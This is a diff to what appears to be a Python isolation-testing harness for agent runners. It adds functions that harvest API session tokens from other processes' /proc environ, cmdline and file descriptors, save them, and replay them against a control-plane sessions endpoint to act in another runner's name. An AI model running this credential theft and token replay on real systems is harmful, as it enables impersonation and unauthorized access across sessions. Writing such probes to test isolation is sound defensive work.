@@ -11,6 +11,7 @@ Whatever succeeds is undone or harmless: this also runs where nothing defends (s
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import ctypes
 import errno
@@ -26,6 +27,8 @@ import stat
 import subprocess
 import sys
 import time
+import urllib.error
+import urllib.request
 from collections.abc import Callable, Iterable, Iterator
 from pathlib import Path
 from typing import Any
@@ -264,6 +267,44 @@ def keyring() -> Any:
             if ring < 0:
                 todo += [int.from_bytes(content[at : at + 4], sys.byteorder) for at in range(0, len(content), 4)]
     return None, f"keys: {tally(seen)}", found
+
+
+@attempt
+def arm_replay() -> Any:
+    """Whatever is a session's token, where a careless host leaves it, kept for a later turn."""
+    tokens: set[str] = set()
+    for pid in targets():
+        for path in (f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", *glob.glob(f"/proc/{pid}/fd/*")):
+            with contextlib.suppress(OSError):
+                if stat.S_ISREG(os.stat(path).st_mode):
+                    tokens |= _tokens(Path(path).read_bytes()[: 1 << 20])
+    Path("rt-tokens").write_text(json.dumps(sorted(tokens)))
+    return None, f"{len(tokens)} tokens had", set()
+
+
+def _tokens(content: bytes) -> set[str]:
+    found = set(re.findall(rb"sk" rb"-ant-req-[\w-]+", content))
+    for secret in re.findall(rb"eyJ[\w-]{20,}", content):
+        with contextlib.suppress(ValueError):
+            found |= set(re.findall(rb"sk" rb"-ant-req-[\w-]+", base64.urlsafe_b64decode(secret + b"===")))
+    return {token.decode() for token in found}
+
+
+@attempt
+def replay() -> Any:
+    """With the tokens of an earlier turn's runner: the control plane, asked in that runner's name."""
+    tokens = json.loads(Path("rt-tokens").read_text())
+    outcomes = []
+    for token in tokens:
+        headers = {"authorization": f"Bearer {token}", "anthropic-beta": "managed-agents-2026-04-01"}
+        url = f"{CONFIG['api']}/v1/sessions/{CONFIG['session']}"
+        request = urllib.request.Request(url, headers=headers)  # noqa: S310 - the test's own address
+        try:
+            with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310
+                outcomes.append(f"answered {answer.status}")
+        except urllib.error.URLError as error:
+            outcomes.append(str(error))
+    return "answered 200" in outcomes, f"{len(tokens)} tokens; {tally(outcomes)}", set()
 
 
 # --- others ----------------------------------------------------------------------------------------------------------
